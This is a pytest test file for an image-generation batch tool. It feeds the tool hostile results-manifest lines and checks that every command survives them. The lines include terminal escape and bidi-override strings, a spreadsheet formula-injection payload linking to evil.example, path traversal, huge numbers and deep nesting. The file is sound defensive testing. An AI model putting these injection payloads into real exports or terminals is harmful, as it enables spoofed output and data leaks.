"""A results manifest from a stranger: whatever a line says, no verb breaks, hangs, or drives the terminal."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from support.sampling import sampled

KLEIN = "blackforestlabs/flux-2-klein/4b/text-to-image"
LINE: dict[str, Any] = {
    "purchase": 1,
    "at": "2026-11-22T01:02:03.456Z",
    "api": "emulator",
    "manifest": "../batch.yaml",
    "model": KLEIN,
    "inputs": {"prompt": "p", "width": 64, "height": 64},
    "fingerprint": "sha256:00",
    "request_id": "req-1",
    "submitted_at": "2026-11-22T01:02:03.456Z",
    "completed_at": "2026-11-22T01:02:04.456Z",
    "reserved_usd": 0.009,
}
OUTPUT: dict[str, Any] = {"url": "https://a/1", "bytes": 3, "sha256": "00", "media_type": "image/png"}
STATES = ("done", "failed", "unknown", "submitted", "generated", "submitting", "released", "cancelled")
DRIVES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\u2028\nrunner: all is well"
"""What would set a terminal's title, clear it, change its colours and forge a line."""
FORMULA = '=HYPERLINK("https://evil.example/"&A1)'


def line(job_id: str, state: str = "done", **changes: Any) -> str:
    return json.dumps({"id": job_id, "state": state, "file": job_id, **LINE, **changes})


def output(**changes: Any) -> list[dict[str, Any]]:
    return [{**OUTPUT, "path": "a.png", **changes}]


def words(text: str) -> list[str]:
    """A line in each state, with ``text`` wherever a record takes any text at all."""
    fault = {"code": text, "message": text, "http_status": 10**30}
    said = {"model": text, "inputs": {"prompt": text, text: text}, "error": fault, "manifest": text, "warning": text}
    times = dict.fromkeys(("at", "submitted_at", "completed_at", "intended_at", "day", "fingerprint"), text)
    made = [{**OUTPUT, "url": text, "sha256": text, "media_type": text}]
    rest = {**said, **times, "outputs": made, "trusted_hosts": [text]}
    stuck = {**said, "error": {**fault, "code": "expired"}}
    return [*(line(f"a{state}", state, **rest) for state in STATES), line("s", "submitted", **stuck)]


def nested(depth: int) -> str:
    deep = "[" * depth + "1" + "]" * depth
    return line("a", "unknown", inputs={"prompt": 0, "x": 0}).replace(
        '"prompt": 0, "x": 0', f'"prompt":{deep},"x":{deep}'
    )


FOLDERS = {
    "numbers": [
        line("a", outputs=output(width=10**4000, height=10**4000, bytes=10**4000)),
        line("b", inputs={"prompt": "p", "width": 10**300, "height": 10**300}, outputs=output(width=-1, bytes=-1)),
        line("c", inputs={"prompt": "p", "width": -(10**300), "height": True}),
        line("d", redo=10**30, redone=10**30, renamed_purchase=-(10**30), restored_from=10**30, max_file_bytes=-1),
        line("e", cost_usd=1e9, reserved_usd=1e9),
        line("f", "unknown", cost_usd=None, reserved_usd=1e-300),
    ],
    "times": [
        line("a", submitted_at="0001-01-01T00:00:00+23:59", completed_at="9999-12-31T23:59:59-23:59"),
        line("b", at="9999-12-31T23:59:59-23:59", completed_at="9999-12-31T23:59:59-23:59"),
        line("c", "submitted", submitted_at="9999-12-31T23:59:59-23:59"),
        line("d", "submitted", submitted_at="0001-01-01T00:00:00+23:59", at="never"),
        line("e", submitted_at="1970-01-01T00:00:00Z", completed_at="9999-12-30T00:00:00Z"),
    ],
    "long names": [
        line("i" * 5000, file="f" * 5000, outputs=output(path="f" * 5000 + ".png")),
        line("b", file="/".join(["f" * 200] * 50), outputs=output(path="/".join(["f" * 200] * 50) + ".png")),
        line("c", manifest="m" * 5000),
        line("d", manifest="m/" * 5000),
        line("e", manifest="\0"),
    ],
    "words": words(DRIVES),
    "formulas": words(FORMULA),
    "odd letters": [line(f"a\x9b31m\u202e{state}", state, file=f"f\x9b{state}") for state in STATES],
    "depth": [nested(400)],
    "one path for all": [
        line("a", outputs=output() * 3),
        line("b", file="a", outputs=output(path="a")),
        line("c", file="a/b", outputs=output(path="a/b.png")),
        line("a", renamed_from="b"),
        line("b", renamed_from="a"),
        line("e", outputs=[]),
    ],
}
VERBS = (
    "status out",
    "status out --json",
    "verify out",
    "verify out --json",
    "reconcile out",
    "reconcile out --json",
    "export out",
    "export out --format json",
    "report out",
    "plan batch.yaml --output out --offline --emulator --jobs",
    "plan batch.yaml --output out --offline --emulator --json --budget 5",
)


@pytest.fixture
def hostile(desk):
    """A folder of such lines, and a manifest of ``a`` and a new job."""

    def write(lines: list[str]) -> None:
        jobs = "jobs: [{id: a, prompt: p, size: 64x64}, {id: new, prompt: q, size: 64x64}]\n"
        desk.write(f"model: {KLEIN}\noutput: out\n{jobs}")
        desk.write("".join(text + "\n" for text in lines), "out/results.jsonl")

    return write


@sampled("name", FOLDERS, quick=2)
def test_no_line_breaks_a_verb_that_looks(desk, hostile, name):
    """Every verb ends on its own terms: no bug of ours, no byte that a terminal obeys, and JSON that can be read."""
    hostile(FOLDERS[name])
    for verb in VERBS:
        ended = desk(*verb.split())
        assert ended.returncode != 70, (verb, ended.stderr)
        said = ended.stdout + ended.stderr
        if "--format" not in verb:  # JSON is for programs, CSV keeps how a prompt is written
            bidi = "" if verb == "export out" else "\u202e\u2028"
            assert not re.search(rf"[\x00-\x08\x0b-\x1f\x7f-\x9f{bidi}]", said.replace("\r\n", "\n")), verb
        assert not re.search("^runner: all is well", said, re.MULTILINE) or verb == "export out"
        if "json" in verb and ended.stdout:
            json.loads(ended.stdout, parse_constant=pytest.fail)  # Infinity, NaN


@sampled("name", ["numbers", "words", "formulas", "one path for all"], quick=1)
def test_no_line_breaks_a_run(desk, hostile, name):
    """A run in such a folder buys what is new or refuses; it writes nothing outside and does not break."""
    owed = ('"submitted"', '"generated"')  # the emulator does not know them, and asking takes its time
    hostile([text for text in FOLDERS[name] if not any(state in text for state in owed)])
    before = {path for path in desk.folder.rglob("*") if desk.folder / "out" not in path.parents}
    ended = desk("run", "batch.yaml", "--emulator", "--json", "--quiet")
    assert ended.returncode != 70, ended.stderr
    json.loads(ended.stdout, parse_constant=pytest.fail)
    after = {path for path in desk.folder.rglob("*") if desk.folder / "out" not in path.parents}
    assert {path.name for path in after - before} <= {"out", "zygote"}


def test_no_word_of_a_record_is_a_formula_in_the_receipts(desk, hostile):
    """Whichever field it stands in: model, media type, hash, warning, error, manifest, prompt."""
    hostile(words(FORMULA))
    cells = [cell for row in csv.reader(io.StringIO(desk("export", "out").stdout, newline="")) for cell in row]
    assert sum("HYPERLINK" in cell for cell in cells) > 50
    assert not [cell for cell in cells if cell.startswith("=")]


@sampled(
    "bad",
    [
        line("../" * 200_000),
        line("../" * 200_000, request_id="req-2"),
        line("a", request_id="a/" * 1_000_000),
        line("a", file="../" * 200_000),
        line("a", purchase=10**4000),
        line("a", numbered_at=list(range(100_000))),
        line("a", cost_usd=1e308),
        line("a", reserved_usd=1e308),
        line("a", cost_usd=float("nan")),
        line("a", cost_usd=float("inf")),
        line("a").replace("0.009", "1e999"),
        line("a", "\x1b[2J"),
        "x" * 20_000_000,
        nested(100_000),
    ],
    ids=[
        "id",
        "id of nobody",
        "request",
        "path",
        "purchase",
        "numbers",
        "cost",
        "reserve",
        "nan",
        "inf",
        "e999",
        "state",
        "20 MB",
        "deep",
    ],
    quick=3,
)
def test_a_line_that_is_refused_is_refused_in_a_few_words(desk, hostile, bad):
    """The place and the reason, however long the line is; and what can be kept of the rest is kept."""
    hostile([line("good"), bad])
    for verb in ("status out", "run batch.yaml --emulator"):
        ended = desk(*verb.split())
        assert ended.returncode == 65
        assert "results.jsonl:2: this line is not a record" in ended.stderr
        assert len(ended.stderr) < 2000
    mended = desk("verify", "out", "--repair-log", "--emulator")
    assert mended.returncode in (0, 2)
    assert len(mended.stdout) < 3000
    assert desk("status", "out").returncode == 0


@pytest.mark.slow
@pytest.mark.parametrize("count", [5_000, pytest.param(20_000, marks=pytest.mark.slow)])
def test_thousands_of_purchases_of_one_job_are_looked_through_once(desk, hostile, count):
    """The work grows with the lines, not with their square: twenty thousand took verify more than an hour."""
    hostile([line("a", purchase=number) for number in range(1, count + 1)])
    for verb in ("verify out", "export out", "status out"):
        assert desk(*verb.split()).returncode in (0, 1)


def test_an_error_that_quotes_a_record_is_as_harmless(desk, hostile):
    """The address of another API in a record, told because an emulator's picture would take a paid one's place."""
    hostile([line("a", api=f"https://{DRIVES.replace(chr(10), '')}")])
    ended = desk("run", "batch.yaml", "--emulator")
    assert ended.returncode == 65
    assert "a was bought at https://" in ended.stderr
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e\u2028]", ended.stderr)
